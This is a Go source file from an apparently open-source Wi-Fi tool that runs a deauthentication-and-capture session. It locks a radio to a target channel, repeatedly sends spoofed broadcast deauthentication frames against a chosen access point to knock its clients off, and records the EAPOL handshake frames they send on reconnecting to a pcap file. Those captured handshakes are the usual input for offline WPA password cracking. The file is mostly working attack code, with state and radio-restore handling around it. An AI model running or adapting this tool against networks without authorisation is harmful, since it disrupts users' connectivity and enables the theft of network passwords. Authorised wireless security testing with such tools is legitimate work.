// Copyright 2025 WLANProbe Contributors
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

// Package capture drives a single deauthentication-and-sniff session: it
// locks the radio to the target channel, floods spoofed deauthentication
// frames while sniffing in promiscuous mode, and persists every EAPOL
// key-exchange frame the classifier retains.
package capture

import (
	"fmt"
	"path"
	"strings"
	"sync"
	"time"

	log "github.com/sirupsen/logrus"

	"github.com/wlanprobe/wifi-handshake-agent/entities"
	"github.com/wlanprobe/wifi-handshake-agent/services/dot11"
	"github.com/wlanprobe/wifi-handshake-agent/services/pcapfile"
	"github.com/wlanprobe/wifi-handshake-agent/services/radio"
	"github.com/wlanprobe/wifi-handshake-agent/view"
)

// Summary terminal result of a finished session
type Summary struct {
	FileName string // capture file name inside the work directory
	FilePath string // full path of the capture file
	Frames   int    // EAPOL records written; zero is a valid outcome
	// RestoreWarning is set when the radio could not be confirmed back in
	// normal operating mode during teardown. It does not overturn an
	// otherwise successful capture.
	RestoreWarning error
}

// Session a single capture invocation. Create with NewSession, drive with
// Run exactly once, then discard.
type Session struct {
	config entities.CaptureSessionConfig
	radio  radio.Radio

	lock     sync.Mutex
	state    view.SessionState
	writer   *pcapfile.Writer
	writeErr error // first write failure latched by the receive callback
	frames   int

	started  chan struct{} // closed when the session reaches Active
	stopChan chan struct{} // closed by Stop for an early teardown
	stopOnce sync.Once
}

// NewSession prepares a session in the Idle state. Nothing touches the
// radio until Run is called.
func NewSession(config entities.CaptureSessionConfig, r radio.Radio) *Session {
	return &Session{
		config:   config,
		radio:    r,
		state:    view.StateIdle,
		started:  make(chan struct{}),
		stopChan: make(chan struct{}),
	}
}

// State reports the current session state
func (s *Session) State() view.SessionState {
	s.lock.Lock()
	defer s.lock.Unlock()
	return s.state
}

// Frames reports how many EAPOL records have been written so far
func (s *Session) Frames() int {
	s.lock.Lock()
	defer s.lock.Unlock()
	return s.frames
}

// Started is closed once the injection loop is running
func (s *Session) Started() <-chan struct{} {
	return s.started
}

// Stop requests an early end of the injection loop. Teardown still runs in
// full before Run returns.
func (s *Session) Stop() {
	s.stopOnce.Do(func() {
		close(s.stopChan)
	})
}

// Run
// executes the whole capture: Idle -> ChannelLocked -> Active -> Restoring.
// Any setup failure moves through Failed instead of Active, but Restoring
// runs for every outcome so the radio is left in normal client mode. The
// call blocks until the configured duration elapses or Stop is called.
func (s *Session) Run() (Summary, error) {
	summary := Summary{FileName: s.config.FileName}
	if err := s.validate(); err != nil {
		return summary, err
	}
	s.lock.Lock()
	if s.state != view.StateIdle {
		s.lock.Unlock()
		return summary, newError(ErrorKindInvalidState, "capture session already started", nil)
	}
	s.state = view.StateChannelLocked
	s.lock.Unlock()

	log.Infof("locking channel %d for %s (%s)", s.config.Channel,
		entities.BssidString(s.config.Bssid), s.config.Duration)
	if err := s.lockChannel(); err != nil {
		summary.RestoreWarning = s.restore(nil)
		s.setState(view.StateFailed)
		return summary, err
	}

	filePath := path.Join(s.config.WorkDirectory, s.config.FileName)
	writer, err := pcapfile.NewWriter(filePath)
	if err != nil {
		summary.RestoreWarning = s.restore(nil)
		s.setState(view.StateFailed)
		return summary, newError(ErrorKindSinkCreate, "open capture sink", err)
	}
	summary.FilePath = filePath
	s.lock.Lock()
	s.writer = writer
	s.lock.Unlock()

	prev := s.radio.RegisterReceiveCallback(s.onFrame)
	if err = s.radio.SetPromiscuous(true); err != nil {
		summary.RestoreWarning = s.restore(prev)
		s.setState(view.StateFailed)
		return summary, newError(ErrorKindRadioConfig, "enable promiscuous mode", err)
	}
	local, err := s.radio.LocalAddress()
	if err != nil {
		summary.RestoreWarning = s.restore(prev)
		s.setState(view.StateFailed)
		return summary, newError(ErrorKindRadioConfig, "resolve local radio address", err)
	}

	s.setState(view.StateActive)
	close(s.started)
	runErr := s.injectionLoop(local)

	summary.RestoreWarning = s.restore(prev)
	summary.Frames = s.Frames()
	if runErr != nil {
		s.setState(view.StateFailed)
		return summary, runErr
	}
	s.setState(view.StateCompleted)
	log.Infof("capture finished: %d EAPOL frame(s) in '%s'", summary.Frames, filePath)
	return summary, nil
}

// validate rejects bad parameters before any radio action
func (s *Session) validate() error {
	if s.config.Channel < view.MinChannel || s.config.Channel > view.MaxChannel {
		return newError(ErrorKindInvalidParameters,
			fmt.Sprintf("channel %d out of range", s.config.Channel), nil)
	}
	if s.config.Duration <= 0 {
		return newError(ErrorKindInvalidParameters, "non-positive capture duration", nil)
	}
	if s.config.FileName == view.EmptyString {
		return newError(ErrorKindInvalidParameters, "empty capture file name", nil)
	}
	return nil
}

// lockChannel takes the radio out of normal operation and parks it on the
// target channel with channel hopping off
func (s *Session) lockChannel() error {
	if err := s.radio.SetPromiscuous(false); err != nil {
		return newError(ErrorKindRadioConfig, "disable promiscuous mode", err)
	}
	if err := s.radio.Stop(); err != nil {
		return newError(ErrorKindRadioConfig, "stop radio", err)
	}
	if err := s.radio.SetChannel(s.config.Channel); err != nil {
		return newError(ErrorKindRadioConfig,
			fmt.Sprintf("switch to channel %d", s.config.Channel), err)
	}
	if err := s.radio.Start(); err != nil {
		return newError(ErrorKindRadioConfig, "restart radio on target channel", err)
	}
	return nil
}

// injectionLoop transmits one broadcast deauthentication frame per interval
// until the duration elapses or a stop is requested. The loop never blocks
// on file I/O; a write error latched by the receive callback surfaces here
// on the next iteration.
func (s *Session) injectionLoop(local [6]byte) error {
	interval := s.config.DeauthInterval
	if interval <= 0 {
		interval = view.DeauthInterval
	}
	ticker := time.NewTicker(interval)
	defer ticker.Stop()
	deadline := time.NewTimer(s.config.Duration)
	defer deadline.Stop()
	sent := 0
	for {
		if err := s.latchedWriteError(); err != nil {
			log.Errorf("capture aborted after %d deauth frame(s): %v", sent, err)
			return newError(ErrorKindSinkWrite, "append capture record", err)
		}
		select {
		case <-deadline.C:
			log.Debugf("duration elapsed, %d deauth frame(s) sent", sent)
			return nil
		case <-s.stopChan:
			log.Debugf("stop requested, %d deauth frame(s) sent", sent)
			return nil
		case <-ticker.C:
			frame := dot11.NewDeauthFrame(dot11.BroadcastAddress, local, s.config.Bssid)
			if err := s.radio.TransmitRaw(frame); err != nil {
				// best effort, the radio gives no delivery confirmation anyway
				log.Debugf("deauth transmit failed: %v", err)
			} else {
				sent++
			}
		}
	}
}

// onFrame is the promiscuous receive callback. It runs on the radio's
// goroutine, possibly during the injection loop's sleep interval. The frame
// bytes are only valid for this invocation; the writer copies them to disk
// before returning.
func (s *Session) onFrame(frame []byte, _ radio.RxInfo) {
	s.lock.Lock()
	active := s.state == view.StateActive
	writer := s.writer
	failed := s.writeErr != nil
	s.lock.Unlock()
	if !active || writer == nil || failed {
		return
	}
	if !dot11.IsEAPOL(frame) {
		return
	}
	if err := writer.WriteFrame(frame, time.Now()); err != nil {
		s.lock.Lock()
		if s.writeErr == nil {
			s.writeErr = err
		}
		s.lock.Unlock()
		return
	}
	s.lock.Lock()
	s.frames++
	s.lock.Unlock()
}

// restore
// brings the radio back to normal client mode and releases the capture
// sink, for success and failure alike. Individual failures here are
// collected as a warning instead of overturning the session result, but
// every step still runs.
func (s *Session) restore(prev radio.ReceiveCallback) error {
	s.setState(view.StateRestoring)
	var problems []string
	if err := s.radio.SetPromiscuous(false); err != nil {
		problems = append(problems, fmt.Sprintf("disable promiscuous mode: %v", err))
	}
	s.radio.RegisterReceiveCallback(prev)
	s.lock.Lock()
	writer := s.writer
	s.writer = nil
	s.lock.Unlock()
	if writer != nil {
		if err := writer.Close(); err != nil {
			problems = append(problems, fmt.Sprintf("close capture file: %v", err))
		}
	}
	if err := s.radio.Stop(); err != nil {
		problems = append(problems, fmt.Sprintf("stop radio: %v", err))
	}
	if err := s.radio.Start(); err != nil {
		problems = append(problems, fmt.Sprintf("restart radio in client mode: %v", err))
	}
	if len(problems) == 0 {
		return nil
	}
	warning := fmt.Errorf("radio not confirmed restored: %s", strings.Join(problems, "; "))
	log.Warn(warning.Error())
	return warning
}

func (s *Session) latchedWriteError() error {
	s.lock.Lock()
	defer s.lock.Unlock()
	return s.writeErr
}

func (s *Session) setState(state view.SessionState) {
	s.lock.Lock()
	s.state = state
	s.lock.Unlock()
}
